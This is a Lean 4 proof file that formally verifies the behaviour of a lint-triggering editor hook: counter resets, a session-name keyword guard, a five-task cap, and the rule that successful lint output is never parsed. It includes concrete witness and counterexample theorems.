/-- C1 (amended): after a trigger the persisted session state carries the
counter reset to zero and the stamped timestamp, regardless of whether
the lint invocation ran, succeeded or failed, while the edited-files list
is left exactly as accumulated (it is not cleared). -/
theorem c1_trigger_reset (env : RunEnv) (h : HookInput)
    (h1 : EDIT_TOOLS.contains h.tool_name = true)
    (h2 : isValidRepoPattern h.cwd = true)
    (h3 : ¬(env.config.enabled = some false))
    (h4 : keywordGuardFails env h = false)
    (h5 : strIsEmpty (effectiveFilePath h) = false)
    (ht : ((updatedState env.prevState (effectiveFilePath h)).editCount : Int) ≥
      effectiveThreshold env.config.editThreshold) :
    (run env (some h)).savedState =
      some { updatedState env.prevState (effectiveFilePath h) with
             editCount := 0, lastLintRun := env.now } := by
  simp only [run, h1, h2, h4, h5, Bool.not_true, Bool.false_eq_true, if_false, if_neg h3]
  unfold processEdit
  rw [if_pos ht]

/-- C1 witness: the amended reset applied to the concrete trigger. -/
theorem c1_witness :
    (run envC1 (some inC1)).savedState =
      some { updatedState envC1.prevState (effectiveFilePath inC1) with
             editCount := 0, lastLintRun := envC1.now } :=
  c1_trigger_reset envC1 inC1 (by decide) (by decide) (by decide) (by decide)
    (by decide) (by decide)

/-! ## C2: the keyword guard and its fallback -/

/-- The guard fails exactly when keywords are configured, some name
resolved and no keyword occurs in it. -/
theorem keywordGuardFails_eq_false_iff (env : RunEnv) (h : HookInput) :
    keywordGuardFails env h = false ↔
      (keywordsOf env = [] ∨ nameToCheckOf env h = "" ∨
        matchesKeyword (keywordsOf env) (nameToCheckOf env h) = true) := by
  unfold keywordGuardFails
  constructor
  · intro hf
    by_cases hk : keywordsOf env = []
    · exact Or.inl hk
    · by_cases hn : nameToCheckOf env h = ""
      · exact Or.inr (Or.inl hn)
      · refine Or.inr (Or.inr ?_)
        have hA : decide (0 < (keywordsOf env).length) = true := by
          simp [List.length_pos, hk]
        have hB : strIsEmpty (nameToCheckOf env h) = false := by
          cases hB2 : strIsEmpty (nameToCheckOf env h) with
          | false => rfl
          | true => exact absurd ((strIsEmpty_iff _).mp hB2) hn
        rw [hA, hB] at hf
        simpa using hf
  · intro hor
    rcases hor with hk | hn | hm
    · simp [hk]
    · have : strIsEmpty (nameToCheckOf env h) = true := (strIsEmpty_iff _).mpr hn
      simp [this]
    · simp [hm]

/-- Every path past the guards persists a state. -/
theorem processEdit_saves (env : RunEnv) (fp : String) :
    (processEdit env fp).savedState.isSome = true := by
  unfold processEdit
  dsimp only
  split <;> rfl

/-- C2 (amended): past the other guards, the edit event is counted (a
state is persisted) exactly when the keywords list is empty, or the
checked name — the session name when one resolves, else the configured
task list id — is empty, or that name case-insensitively contains a
keyword. A missing session name alone does not bypass the check: the
task list id takes its place. -/
theorem c2_keyword_guard (env : RunEnv) (h : HookInput)
    (h1 : EDIT_TOOLS.contains h.tool_name = true)
    (h2 : isValidRepoPattern h.cwd = true)
    (h3 : ¬(env.config.enabled = some false))
    (h5 : strIsEmpty (effectiveFilePath h) = false) :
    (run env (some h)).savedState.isSome = true ↔
      (keywordsOf env = [] ∨ nameToCheckOf env h = "" ∨
        matchesKeyword (keywordsOf env) (nameToCheckOf env h) = true) := by
  rw [← keywordGuardFails_eq_false_iff]
  simp only [run, h1, h2, h5, Bool.not_true, Bool.false_eq_true, if_false, if_neg h3]
  cases hg : keywordGuardFails env h with
  | false => simp [processEdit_saves]
  | true => simp [approveOnly]

/-- A session named for development work. -/
def envW2 : RunEnv :=
  { config := { keywords := some ["dev"] }, sessionName := some "dev work",
    prevState := { editCount := 0, editedFiles := [], lastLintRun := 0 },
    detectedLint := none, projectTaskList := none,
    lint := fun _ => (true, ""), now := 5 }

/-- An edit event in that session. -/
def inW2 : HookInput :=
  { session_id := "s", transcript_path := "t", cwd := "/r/hook-checklint",
    tool_name := "Edit", tool_input_file_path := some "a.ts" }

/-- C2 witness: the guard rule applied to a matching session name. -/
theorem c2_witness : (run envW2 (some inW2)).savedState.isSome = true :=
  (c2_keyword_guard envW2 inW2 (by decide) (by decide) (by decide) (by decide)).mpr
    (Or.inr (Or.inr (by decide)))

/-- No session name resolves, and the configured task list id does not
contain the keyword. -/
def envC2 : RunEnv :=
  { config := { editThreshold := some 3, keywords := some ["dev"],
                taskListId := some "feature-xyz" },
    sessionName := none,
    prevState := { editCount := 0, editedFiles := [], lastLintRun := 0 },
    detectedLint := none, projectTaskList := none,
    lint := fun _ => (true, ""), now := 0 }

/-- The same run with no task list id configured either. -/
def envC2x : RunEnv :=
  { envC2 with config := { envC2.config with taskListId := none } }

/-- An edit event for the keyword-guard counterexample. -/
def inC2 : HookInput :=
  { session_id := "s", transcript_path := "t", cwd := "/r/hook-checklint",
    tool_name := "Edit", tool_input_file_path := some "a.ts" }

/-- C2 counterexample: with no resolvable session name the keyword check
is not bypassed: the configured task list id feature-xyz takes its place,
matches no keyword, and the event is not counted (no state is written);
dropping the task list id makes the same event count. -/
theorem c2_counterexample :
    envC2.sessionName = none ∧
    (run envC2 (some inC2)).savedState = none ∧
    (run envC2x (some inC2)).savedState =
      some { editCount := 1, editedFiles := ["a.ts"], lastLintRun := 0 } := by decide

/-! ## C6: the five-task cap -/

/-- C6: when more than five diagnostics are relevant, task creation is
enabled and a nonempty task list resolves, exactly the first five
relevant diagnostics are emitted as tasks, in order, and the overflow
count is logged rather than emitted. -/
theorem c6_task_cap (env : RunEnv) (errors : List LintError) (state : SessionState)
    (hct : env.config.createTasks ≠ some false)
    (htl : ∃ tl, strOrOpt env.config.taskListId env.projectTaskList = some tl ∧
      strIsEmpty tl = false)
    (hn : 5 < (errors.filter (fun e => isRelevant state.editedFiles e)).length) :
    (emitTasks env errors state).tasks =
      (errors.filter (fun e => isRelevant state.editedFiles e)).take 5 ∧
    (emitTasks env errors state).tasks.length = 5 ∧
    (emitTasks env errors state).overflowLogged =
      some ((errors.filter (fun e => isRelevant state.editedFiles e)).length - 5) := by
  obtain ⟨tl, htl1, htl2⟩ := htl
  have hpos : 0 < (errors.filter (fun e => isRelevant state.editedFiles e)).length := by omega
  unfold emitTasks
  dsimp only
  rw [if_pos (And.intro hct hpos), htl1]
  dsimp only
  rw [htl2]
  simp only [Bool.false_eq_true, if_false]
  refine ⟨by trivial, ?_, by rw [if_pos hn]⟩
  simp only [List.length_take]
  omega

/-- One relevant diagnostic per line number. -/
def mkE (n : Nat) : LintError :=
  { file := "a.ts", line := n, column := 1, message := "m",
    rule := none, severity := .error }

/-- Six relevant diagnostics for the cap witness. -/
def errsW6 : List LintError := [mkE 1, mkE 2, mkE 3, mkE 4, mkE 5, mkE 6]

/-- A session that edited the flagged file. -/
def stW6 : SessionState := { editCount := 3, editedFiles := ["a.ts"], lastLintRun := 0 }

/-- An environment with task creation enabled and a configured list. -/
def envW6 : RunEnv :=
  { config := { taskListId := some "proj-dev", createTasks := some true },
    sessionName := none, prevState := stW6, detectedLint := none,
    projectTaskList := none, lint := fun _ => (false, ""), now := 0 }

/-- C6 witness: the cap applied to six concrete relevant diagnostics. -/
theorem c6_witness : (emitTasks envW6 errsW6 stW6).tasks.length = 5 :=
  (c6_task_cap envW6 errsW6 stW6 (by decide)
    ⟨"proj-dev", by decide, by decide⟩ (by decide)).2.1

/-! ## C9: a successful lint run parses nothing and emits nothing -/

/-- When every lint invocation reports success the trigger block does
nothing observable. -/
theorem triggerEffects_success (env : RunEnv) (st : SessionState)
    (hs : ∀ c, (env.lint c).1 = true) :
    triggerEffects env st = approveOnly := by
  unfold triggerEffects
  cases hc : strOrOpt env.config.lintCommand env.detectedLint with
  | none => rfl
  | some cmd =>
    by_cases hv : isValidLintCommand cmd = true
    · simp [hv, hs cmd]
    · simp [hv]

/-- processEdit under an always-successful lint oracle, in closed form:
only the state write remains. -/
theorem processEdit_success (env : RunEnv) (o : String) (fp : String) :
    processEdit { env with lint := fun _ => (true, o) } fp =
      (if ((updatedState env.prevState fp).editCount : Int) ≥
          effectiveThreshold env.config.editThreshold then
        { approveOnly with
          savedState := some { updatedState env.prevState fp with
                               editCount := 0, lastLintRun := env.now } }
      else { approveOnly with savedState := some (updatedState env.prevState fp) }) := by
  unfold processEdit
  have htr : triggerEffects { env with lint := fun _ => (true, o) }
      (updatedState env.prevState fp) = approveOnly :=
    triggerEffects_success _ _ (fun c => rfl)
  dsimp only
  split <;> simp [htr]

/-- The keyword guard does not read the lint oracle. -/
theorem keywordGuardFails_update_lint (env : RunEnv) (f : String → Bool × String)
    (h : HookInput) :
    keywordGuardFails { env with lint := f } h = keywordGuardFails env h := rfl

/-- C9: when the lint command exits successfully the run's outcome does
not depend on the lint output at all — the output is never parsed — and
no task is created; diagnostics can only arise on the failure path. -/
theorem c9_success_no_parse (env : RunEnv) (input : Option HookInput) (o1 o2 : String) :
    run { env with lint := fun _ => (true, o1) } input =
      run { env with lint := fun _ => (true, o2) } input ∧
    (run { env with lint := fun _ => (true, o1) } input).tasks = [] := by
  constructor
  · cases input with
    | none => rfl
    | some h =>
      simp only [run]
      dsimp only
      simp only [keywordGuardFails_update_lint]
      rw [processEdit_success env o1, processEdit_success env o2]
  · cases input with
    | none => rfl
    | some h =>
      simp only [run]
      dsimp only
      simp only [keywordGuardFails_update_lint]
      rw [processEdit_success env o1]
      split_ifs <;> rfl

end HookChecklint
